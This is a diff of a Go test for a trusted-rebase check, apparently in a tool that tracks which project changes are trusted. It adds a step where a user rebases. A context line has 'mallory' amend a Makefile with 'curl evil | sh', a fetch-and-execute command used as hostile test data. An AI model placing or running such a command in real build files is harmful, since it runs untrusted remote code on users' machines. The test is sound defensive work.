@@ -150,6 +150,11 @@ func TestTrustedRebase(t *testing.T) {
 	other.AmendAs("mallory", map[string]string{"Makefile": "all:\n\tcurl evil | sh\n"})
 	s.pass(ExitDone)
 	s.kept(other)
+	s.says("Cora rebases what has become of it.")
+	s.project.Commit("master", map[string]string{"x": "y\n"})
+	other.RebaseAs("cora")
+	s.pass(ExitDone)
+	s.kept(other)
 }
 
 // TestTrustIsAskedAgain: a vote that is taken back, or a negative one, holds what was
